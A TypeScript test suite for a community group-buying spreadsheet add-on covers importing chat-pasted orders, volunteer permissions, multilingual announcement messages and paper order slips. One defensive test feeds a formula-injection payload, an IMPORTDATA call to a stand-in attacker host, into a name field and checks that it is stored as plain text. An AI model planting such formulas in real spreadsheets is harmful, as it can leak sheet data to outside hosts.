import type { ChatImportInput, ChatImportResult, ChatLineInput } from '../../src/addon/chatImport';
import type { ChatReview } from '../../src/addon/screens/chatImport';
import type { ChatMessagesScreen } from '../../src/addon/screens/chatMessages';
import type { TallyScreen } from '../../src/addon/screens/tally';
import type { OrderSlips } from '../../src/addon/slips';
import { Workspace } from '../../local/emulator';
import { runConfirmed } from '../../local/scenario/confirm';
import { readStored } from '../../src/workspace/properties/store';
import { KEYS } from '../../src/workspace/properties/keys';
import { NOW, orderRows, typeRows } from '../harness/community';
import { loadAddOn } from '../harness/bundle';

/**
 * Chats and paper (issue 17) through the built bundle: a 接龙 pasted into the sidebar, reviewed, fixed and
 * imported as orders; pasted again and longer; refused for a volunteer outside their building; the
 * ready-to-paste messages in Russian and Chinese; the order slips' data.
 */

/** [id, name, nameRu, nameZh, nameEn, unit, price, step, box, minimum, limit, stock, retail, supplier, code, aliases] */
const CATALOG = [
  ['RICE', 'Рис', '', '大米', 'Rice', 'кг', '95,50', '0,5', '25', '', '10', '', '', 'Опт', 'R-1', 'рисик'],
  ['BUCK', 'Гречка', '', '荞麦', 'Buckwheat', 'кг', '88', '0,5', '', '', '', '', '', 'Опт', 'B-1', 'греча, крупа'],
  ['MILLET', 'Пшено', '', '小米', 'Millet', 'кг', '60', '1', '', '', '', '', '', 'Опт', 'M-1', 'крупа'],
  ['OIL', 'Масло подсолнечное', '', '葵花籽油', 'Sunflower oil', 'бут.', '180', '', '6', '', '', '', '', 'Опт', 'O-1', 'масло'],
  ['EGGS', 'Яйца С1', '', '鸡蛋', 'Eggs', 'дес.', '110', '', '', '', '3', '', '', 'Ферма', 'E-1', ''],
];

interface Chat {
  ws: Workspace;
  roundId: string;
  run<T>(fn: string, args?: unknown[], user?: string): T;
}

/** A Russian community in Moscow with three buildings, a volunteer for Дом 1, and an open round closing Friday 18:00. */
function chatCommunity(): Chat {
  const ws = loadAddOn({ now: NOW, timeZone: 'Europe/Moscow' }).workspace;
  for (const user of [ws.owner, 'olga@example.org', 'stranger@example.org']) ws.session.locales.set(user, 'ru_RU');
  ws.run('setUpCommunity');
  typeRows(ws, 'Каталог', CATALOG);
  typeRows(ws, 'Дома и пункты выдачи', [
    ['дом / подъезд', 'Дом 1'],
    ['дом / подъезд', 'Дом 2'],
    ['дом / подъезд', 'Дом 3'],
    ['пункт выдачи', 'Двор у дома 2'],
  ]);
  typeRows(ws, 'Волонтёры', [['olga@example.org', 'Ольга', 'волонтёр', 'Дом 1']]);
  // Friday 20 November 2026, 18:00 in Moscow.
  const deadline = new Date(Date.UTC(2026, 10, 20, 15, 0)).toISOString();
  const round = ws.run<{ id: string }>('createRound', [
    { title: 'Ноябрь', deadline, itemIds: ['RICE', 'BUCK', 'MILLET', 'OIL', 'EGGS'], pickupTime: 'суббота 10–12' },
  ]);
  ws.run('openRound', [round.id]);
  return { ws, roundId: round.id, run: (fn, args = [], user) => runConfirmed(ws, fn, args, { user }) };
}

const PASTE = [
  'Ноябрь — записываемся, пишите по образцу',
  '1. Дом 1, кв. 5, Анна: Рис 2, масло 1',
  '2. Дом 2, кв. 12, Борис: яйца 2',
  '3. Дом 3, кв. 7, Вера: крупа 2',
  'спасибо!',
].join('\n');

/** What the review screen sends for a line it shows: its proposal, with the person's fixes applied. */
function asConfirmed(review: ChatReview, lineNo: number, fix: Partial<ChatLineInput> = {}): ChatLineInput {
  const line = review.lines.find((l) => l.lineNo === lineNo)!;
  const o = line.order!;
  return {
    lineNo,
    name: o.name,
    building: o.building,
    flat: o.flat,
    phone: o.phone,
    mode: o.mode,
    items: o.items.map((i) => ({ itemId: i.itemId ?? '', quantity: i.quantity })),
    ...fix,
  };
}

const ticked = (review: ChatReview) => review.lines.filter((l) => l.ticked).map((l) => l.lineNo);
// The Orders sheet names the source in its language: «из чата», «бумажный бланк».
const chatRows = (ws: Workspace) => orderRows(ws).filter((r) => r.source === 'из чата');

function importFixed(c: Chat, paste: string, user?: string): { review: ChatReview; result: ChatImportResult } {
  const review = c.run<ChatReview>('readChatPaste', [c.roundId, paste], user);
  const lines = ticked(review).map((n) => asConfirmed(review, n));
  const vera = review.lines.find((l) => l.text.includes('Вера'));
  if (vera) lines.push(asConfirmed(review, vera.lineNo, { items: [{ itemId: 'BUCK', quantity: '2' }] }));
  const input: ChatImportInput = { roundId: c.roundId, lines };
  return { review, result: c.run<ChatImportResult>('importChatOrders', [input], user) };
}

describe('a pasted 接龙 becomes orders after review', () => {
  test('every line comes back; the ambiguous one waits for a person; the fixed list lands in Orders as chat orders and in the tally', () => {
    const c = chatCommunity();
    const review = c.run<ChatReview>('readChatPaste', [c.roundId, PASTE]);
    expect(review.lines.map((l) => [l.lineNo, l.kind, l.confidence, l.status, l.ticked])).toEqual([
      [1, 'chatter', 'sure', null, false],
      [2, 'order', 'sure', 'new', true],
      [3, 'order', 'sure', 'new', true],
      [4, 'order', 'check', null, false],
      [5, 'chatter', 'sure', null, false],
    ]);
    const vera = review.lines[3];
    expect(vera.order?.items).toEqual([{ itemId: null, candidates: ['BUCK', 'MILLET'], typed: 'крупа', quantity: '' }]);
    expect(vera.reasons).toContain('«крупа» может означать: Гречка, Пшено.');
    expect(review.lines[1].order).toEqual({
      name: 'Анна',
      building: 'Дом 1',
      flat: '5',
      phone: '',
      mode: 'whole',
      items: [
        { itemId: 'RICE', candidates: [], typed: 'Рис', quantity: '2' },
        { itemId: 'OIL', candidates: [], typed: 'масло', quantity: '1' },
      ],
    });

    const { result } = importFixed(c, PASTE);
    expect(result).toEqual({ added: 3, changed: 0, cancelled: 0, unchanged: 0, notes: [] });
    expect(chatRows(c.ws).map((r) => [r.name, r.building, r.flat, r.item, r.quantity, r.enteredBy])).toEqual([
      ['Анна', 'Дом 1', '5', 'OIL', 1, c.ws.owner],
      ['Анна', 'Дом 1', '5', 'RICE', 2, c.ws.owner],
      ['Борис', 'Дом 2', '12', 'EGGS', 2, c.ws.owner],
      ['Вера', 'Дом 3', '7', 'BUCK', 2, c.ws.owner],
    ]);
    const tally = c.run<TallyScreen>('tallyScreen', [c.roundId]);
    expect(tally.participants).toBe(3);
    expect(Object.fromEntries(tally.items.map((i) => [i.id, i.ordered]))).toEqual({
      RICE: 2,
      BUCK: 2,
      MILLET: 0,
      OIL: 1,
      EGGS: 2,
    });
  });

  test('pasting the same list again adds nothing, and says every order line is already imported', () => {
    const c = chatCommunity();
    importFixed(c, PASTE);
    const before = orderRows(c.ws);
    const again = importFixed(c, PASTE);
    expect(again.review.lines.filter((l) => l.order).map((l) => l.statusLabel)).toEqual(['Уже внесено', 'Уже внесено', '']);
    expect(ticked(again.review)).toEqual([]);
    expect(again.result).toEqual({ added: 0, changed: 0, cancelled: 0, unchanged: 1, notes: [] });
    expect(orderRows(c.ws)).toEqual(before);
  });

  test('a longer repost adds only the new neighbour and the edited line', () => {
    const c = chatCommunity();
    importFixed(c, PASTE);
    const longer = PASTE.replace('яйца 2', 'яйца 3') + '\n4. Дом 1, кв. 9, Галина: рисик 1,5';
    const { review, result } = importFixed(c, longer);
    expect(review.lines.filter((l) => l.order).map((l) => [l.lineNo, l.status])).toEqual([
      [2, 'unchanged'],
      [3, 'changed'],
      [4, null],
      [6, 'new'],
    ]);
    expect(review.lines[2].before).toBe('Яйца С1 2\u00a0дес.');
    expect(result).toMatchObject({ added: 1, changed: 1, cancelled: 0 });
    expect(chatRows(c.ws).map((r) => [r.name, r.item, r.quantity, r.revision])).toEqual([
      ['Анна', 'OIL', 1, 1],
      ['Анна', 'RICE', 2, 1],
      ['Борис', 'EGGS', 3, 2],
      ['Вера', 'BUCK', 2, 1],
      ['Галина', 'RICE', 1.5, 1],
    ]);
  });

  test('a 400-line 接龙 imports in a few sheet calls, and its record (about 30 KB) fits the document properties', () => {
    const c = chatCommunity();
    const names = ['Анна', 'Борис', 'Вера', 'Галина', 'Дмитрий', 'Елена', 'Жанна', 'Зоя', 'Игорь', 'Кирилл'];
    const lines = Array.from(
      { length: 400 },
      (_, i) => `${i + 1}. Дом ${1 + (i % 3)}, кв. ${i + 1}, ${names[i % 10]}: рис 1, яйца 1`,
    );
    c.ws.calls.reset();
    const review = c.run<ChatReview>('readChatPaste', [c.roundId, lines.join('\n')]);
    expect(ticked(review)).toHaveLength(400);
    const result = c.run<ChatImportResult>('importChatOrders', [
      { roundId: c.roundId, lines: ticked(review).map((n) => asConfirmed(review, n)) },
    ]);
    expect(result.added).toBe(400);
    // Read and import, 400 people: the Catalog and Orders read, one append, no call per order.
    expect(c.ws.calls.roundTrips('spreadsheet')).toBeLessThanOrEqual(8);
    expect(chatRows(c.ws)).toHaveLength(800);
    const stored = c.ws.properties.document.getProperties();
    const bytes = Object.entries(stored)
      .filter(([k]) => k.startsWith(`chatImport:${c.roundId}`))
      .reduce((n, [k, v]) => n + k.length + Buffer.byteLength(v), 0);
    expect(bytes).toBeLessThan(40_000);
    expect(readStored(stored, KEYS.chatImport(c.roundId))?.people).toHaveLength(400);
  });
});

describe('what an import recorded', () => {
  test('is removed once its round is cancelled, at the next import into another round', () => {
    const c = chatCommunity();
    importFixed(c, PASTE);
    const recorded = () => Object.keys(c.ws.properties.document.getProperties()).filter((k) => k.startsWith('chatImport:'));
    expect(recorded()).toEqual(['chatImport:R1#0', 'chatImport:R1#n']);
    c.run('cancelRound', [c.roundId, 'поставщик отказал']);
    const deadline = new Date(NOW + 72 * 3600_000).toISOString();
    const next = c.run<{ id: string }>('createRound', [{ title: 'Декабрь', deadline, itemIds: ['RICE', 'EGGS'] }]);
    c.run('openRound', [next.id]);
    c.run('importChatOrders', [
      {
        roundId: next.id,
        lines: [
          {
            lineNo: 1,
            name: 'Анна',
            building: 'Дом 1',
            flat: '5',
            phone: '',
            mode: 'whole',
            items: [{ itemId: 'EGGS', quantity: '1' }],
          },
        ],
      },
    ]);
    expect(recorded()).toEqual([`chatImport:${next.id}#0`, `chatImport:${next.id}#n`]);
  });
});

describe("residents' text from a chat is data", () => {
  test('a name that looks like a formula lands in the Orders sheet as text, never a formula', () => {
    const c = chatCommunity();
    const evil = '=IMPORTDATA("http://evil.example/x")';
    const line = {
      lineNo: 1,
      name: evil,
      building: 'Дом 1',
      flat: '+7 900',
      phone: '',
      mode: 'whole' as const,
      items: [{ itemId: 'EGGS', quantity: '1' }],
    };
    c.run('importChatOrders', [{ roundId: c.roundId, lines: [line] }]);
    const orders = c.ws.spreadsheet.sheet('Заказы')!;
    const cells = [orders.cell(2, 8), orders.cell(2, 12)];
    expect(cells.map((cell) => [cell?.formula ?? '', cell?.value])).toEqual([
      ['', evil],
      ['', '+7 900'],
    ]);
  });
});

describe('who may import', () => {
  test("a volunteer's paste marks other buildings' lines, and importing one is refused with nothing written", () => {
    const c = chatCommunity();
    const review = c.run<ChatReview>('readChatPaste', [c.roundId, PASTE], 'olga@example.org');
    expect(review.buildings).toEqual(['Дом 1']);
    expect(review.lines.filter((l) => l.order).map((l) => [l.lineNo, l.allowed, l.ticked])).toEqual([
      [2, true, true],
      [3, false, false],
      [4, false, false],
    ]);
    expect(() =>
      c.run(
        'importChatOrders',
        [{ roundId: c.roundId, lines: [asConfirmed(review, 2), asConfirmed(review, 3)] }],
        'olga@example.org',
      ),
    ).toThrow('Строка 3: Это можно сделать только для вашего дома: Дом 1.');
    expect(chatRows(c.ws)).toEqual([]);
    const own = c.run<ChatImportResult>(
      'importChatOrders',
      [{ roundId: c.roundId, lines: [asConfirmed(review, 2)] }],
      'olga@example.org',
    );
    expect(own.added).toBe(1);
    expect(chatRows(c.ws).map((r) => [r.name, r.enteredBy])).toEqual([
      ['Анна', 'olga@example.org'],
      ['Анна', 'olga@example.org'],
    ]);
  });

  test('someone not in the Volunteers sheet cannot read a paste or import', () => {
    const c = chatCommunity();
    expect(() => c.run('readChatPaste', [c.roundId, PASTE], 'stranger@example.org')).toThrow(/Волонтёры/);
    expect(() => c.run('importChatOrders', [{ roundId: c.roundId, lines: [] }], 'stranger@example.org')).toThrow(/Волонтёры/);
  });
});

describe('messages to paste into the chats', () => {
  const MARKDOWN = /[*_`~|[\]<>]|#(?!接龙)/;
  const text = (screen: ChatMessagesScreen, kind: string) => screen.messages.find((m) => m.kind === kind)!;

  function withOrders(): { c: Chat; formUrl: string } {
    const c = chatCommunity();
    typeRows(c.ws, 'Настройки', [['chatRules', 'Оплата при выдаче: наличными или переводом.']], 11);
    importFixed(c, PASTE);
    const [round] = c.run<{ formUrl: string }[]>('listRounds');
    return { c, formUrl: round.formUrl };
  }

  test('in Russian: the exact announcement and last call, plain text, the stop with weekday and time zone', () => {
    const { c, formUrl } = withOrders();
    const ru = c.run<ChatMessagesScreen>('chatMessagesScreen', [c.roundId, { lang: 'ru', emoji: false }]);
    expect(ru.messages.map((m) => m.kind)).toEqual(['announcement', 'almostFull', 'lastCall', 'arrived', 'unpaid', 'jielong']);
    expect(text(ru, 'announcement').text).toBe(
      [
        'Ноябрь',
        'Стоп: пт, 20 ноября 2026, 18:00 (МСК)',
        'Выдача: суббота 10–12 — Двор у дома 2',
        '',
        'Что заказываем:',
        '• Рис — 95,50\u00a0₽ за кг; шаг 0,5\u00a0кг; в коробке 25\u00a0кг; не больше 10\u00a0кг в одни руки',
        '• Гречка — 88,00\u00a0₽ за кг; шаг 0,5\u00a0кг',
        '• Пшено — 60,00\u00a0₽ за кг',
        '• Масло подсолнечное — 180,00\u00a0₽ за бут.; в коробке 6\u00a0бут.',
        '• Яйца С1 — 110,00\u00a0₽ за дес.; не больше 3\u00a0дес. в одни руки',
        '',
        'Правила:',
        'Оплата при выдаче: наличными или переводом.',
        '',
        `Заказ через форму: ${formUrl}`,
        'Нет доступа к форме? Напишите в чат одной строкой: дом, квартиру, имя и что нужно.',
        'Пример: Дом 1, кв. 5, Анна: Рис 2',
      ].join('\n'),
    );
    expect(text(ru, 'lastCall').text).toBe(
      [
        'Ноябрь: последний звонок, скоро стоп!',
        'Стоп: пт, 20 ноября 2026, 18:00 (МСК)',
        'Осталось 6 часов.',
        `Заказ через форму: ${formUrl}`,
        'Нет доступа к форме? Напишите в чат одной строкой: дом, квартиру, имя и что нужно.',
      ].join('\n'),
    );
    expect(text(ru, 'arrived').text).toBe('Ноябрь: товар приехал!\nЗабрать: суббота 10–12 — Двор у дома 2');
    expect(text(ru, 'jielong').text).toBe(
      [
        'Ноябрь: список на сейчас. Проверьте свою строку.',
        '',
        '— Дом 1 —',
        '1. Дом 1, кв. 5, Анна: Рис 2 кг, Масло подсолнечное 1',
        '',
        '— Дом 2 —',
        '2. Дом 2, кв. 12, Борис: Яйца С1 2 дес.',
        '',
        '— Дом 3 —',
        '3. Дом 3, кв. 7, Вера: Гречка 2 кг',
      ].join('\n'),
    );
    expect([text(ru, 'almostFull').note, text(ru, 'unpaid').note]).toEqual([
      'Сейчас ни одна коробка не близка к заполнению.',
      'Счета появятся после стопа.',
    ]);
    for (const m of ru.messages)
      expect([m.kind, m.text.replace(/https:\/\/\S+/g, '')]).not.toEqual([m.kind, expect.stringMatching(MARKDOWN)]);
  });

  test('in Chinese, with emoji: item names and units in Chinese, full-width punctuation, the stop in Moscow time', () => {
    const { c, formUrl } = withOrders();
    const zh = c.run<ChatMessagesScreen>('chatMessagesScreen', [c.roundId, { lang: 'zh-CN', emoji: true }]);
    expect(text(zh, 'announcement').text).toBe(
      [
        '📣 Ноябрь',
        '⏰ 截单时间：2026年11月20日（周五）18:00（莫斯科时间）',
        '📍 自提：суббота 10–12，Двор у дома 2',
        '',
        '🛒 本期商品：',
        '• 大米：₽95.50/公斤；每份0.5公斤；每箱25公斤；每人限购10公斤',
        '• 荞麦：₽88.00/公斤；每份0.5公斤',
        '• 小米：₽60.00/公斤',
        '• 葵花籽油：₽180.00/瓶；每箱6瓶',
        '• 鸡蛋：₽110.00/盒（10个）；每人限购3盒（10个）',
        '',
        '📌 群规：',
        'Оплата при выдаче: наличными или переводом.',
        '',
        `👉 表单下单：${formUrl}`,
        '✍️ 打不开表单的邻居，请在群里接龙：楼号、房号、姓名、商品和数量。',
        '例如：Дом 1 502室 王阿姨：大米 2',
      ].join('\n'),
    );
    expect(text(zh, 'lastCall').text).toBe(
      [
        '🔔 Ноябрь：最后召集，马上截单！',
        '⏰ 截单时间：2026年11月20日（周五）18:00（莫斯科时间）',
        '还剩6小时。',
        `👉 表单下单：${formUrl}`,
        '✍️ 打不开表单的邻居，请在群里接龙：楼号、房号、姓名、商品和数量。',
      ].join('\n'),
    );
    expect(text(zh, 'jielong').text).toBe(
      [
        '#接龙',
        'Ноябрь：目前的接龙，请核对自己的那一行。',
        '',
        '【Дом 1】',
        '1. Дом 1 5室 Анна：大米 2公斤，葵花籽油 1',
        '',
        '【Дом 2】',
        '2. Дом 2 12室 Борис：鸡蛋 2打',
        '',
        '【Дом 3】',
        '3. Дом 3 7室 Вера：荞麦 2公斤',
      ].join('\n'),
    );
    for (const m of zh.messages)
      expect([m.kind, m.text.replace(/https:\/\/\S+/g, '')]).not.toEqual([m.kind, expect.stringMatching(MARKDOWN)]);
  });

  test("after the stop: the unpaid list by flat (Анна's rice and oil filled no box, so she owes nothing); a volunteer gets only their building", () => {
    const { c } = withOrders();
    importFixed(c, `${PASTE}\n4. Дом 1, кв. 9, Галина: яйца 1`);
    c.run('closeRound', [c.roundId]);
    const ru = c.run<ChatMessagesScreen>('chatMessagesScreen', [c.roundId, { lang: 'ru', emoji: false }]);
    expect(text(ru, 'unpaid').text).toBe(
      ['Ноябрь: ещё ждём оплату —', '• Дом 1: кв. 9', '• Дом 2: кв. 12', '• Дом 3: кв. 7'].join('\n'),
    );
    const olga = c.run<ChatMessagesScreen>('chatMessagesScreen', [c.roundId, { lang: 'ru' }], 'olga@example.org');
    expect([olga.canManage, olga.buildings, olga.messages.map((m) => m.kind)]).toEqual([false, ['Дом 1'], ['unpaid', 'jielong']]);
    expect(text(olga, 'unpaid').text).toBe('💳 Ноябрь: ещё ждём оплату —\n• Дом 1: кв. 9');
    expect(text(olga, 'jielong').text).toMatch(/Анна[\s\S]*Галина/);
    expect(text(olga, 'jielong').text).not.toMatch(/Борис|Вера/);
    expect(() => c.run('chatMessagesScreen', [c.roundId, {}], 'stranger@example.org')).toThrow(/Волонтёры/);
  });
});

describe('paper slips', () => {
  test("a slip in the volunteer's language, with every item's price, unit, step and limit, and the volunteer's building printed", () => {
    const c = chatCommunity();
    c.ws.session.locales.set('olga@example.org', 'zh_CN');
    const slips = c.run<OrderSlips>('orderSlips', [c.roundId], 'olga@example.org');
    expect(slips).toEqual({
      title: 'Ноябрь',
      deadline: '2026年11月20日（周五）18:00（莫斯科时间）',
      pickup: 'суббота 10–12，Двор у дома 2',
      buildings: ['Дом 1'],
      items: [
        { id: 'RICE', name: '大米', unit: '公斤', price: '₽95.50/公斤', hint: '每份0.5公斤；每人限购10公斤' },
        { id: 'BUCK', name: '荞麦', unit: '公斤', price: '₽88.00/公斤', hint: '每份0.5公斤' },
        { id: 'MILLET', name: '小米', unit: '公斤', price: '₽60.00/公斤', hint: '' },
        { id: 'OIL', name: '葵花籽油', unit: '瓶', price: '₽180.00/瓶', hint: '' },
        { id: 'EGGS', name: '鸡蛋', unit: '盒（10个）', price: '₽110.00/盒（10个）', hint: '每人限购3盒（10个）' },
      ],
    });
    c.run('showOrderSlips', [c.roundId], 'olga@example.org');
    const page = c.ws.ui.pages.at(-1)!;
    expect([page.kind, page.title]).toEqual(['modal', '纸质订单']);
    expect(page.html.getContent()).toContain('data-lang="zh-CN" data-round="R1"');
  });

  test('an order typed in from a slip is marked paper, and editing it later keeps it so', () => {
    const c = chatCommunity();
    const saved = c.run<{ orderKey: string }>('saveOfflineOrder', [
      { roundId: c.roundId, name: 'Клавдия Ивановна', building: 'Дом 1', flat: '4', quantities: { EGGS: '1' }, source: 'paper' },
    ]);
    c.run('saveOfflineOrder', [
      { roundId: c.roundId, orderKey: saved.orderKey, name: 'Клавдия Ивановна', building: 'Дом 1', quantities: { EGGS: '2' } },
    ]);
    expect(orderRows(c.ws).map((r) => [r.name, r.item, r.quantity, r.source])).toEqual([
      ['Клавдия Ивановна', 'EGGS', 2, 'бумажный бланк'],
    ]);
  });
});

describe('the chat screens stay cheap as a round grows', () => {
  test.each([[5], [300]])('with %i orders: a paste is read and the messages load in a few sheet calls', (n) => {
    const c = chatCommunity();
    const lines = Array.from({ length: n }, (_, i) => `${i + 1}. Дом ${1 + (i % 3)}, кв. ${i + 1}, Анна: яйца 1`);
    const review = c.run<ChatReview>('readChatPaste', [c.roundId, lines.join('\n')]);
    c.run('importChatOrders', [{ roundId: c.roundId, lines: ticked(review).map((no) => asConfirmed(review, no)) }]);
    const cost = (fn: string, args: unknown[]) => {
      c.ws.calls.reset();
      c.run(fn, args);
      return c.ws.calls.roundTrips('spreadsheet');
    };
    // The same few calls whatever the size: the Catalog's aliases, the round's block of Orders (the
    // Volunteers sheet only for someone who is not the spreadsheet's owner: the owner is a coordinator).
    expect([
      cost('readChatPaste', [c.roundId, PASTE]),
      cost('chatMessagesScreen', [c.roundId, { lang: 'zh-CN' }]),
      cost('orderSlips', [c.roundId]),
    ]).toEqual([2, 4, 0]);
  });
});
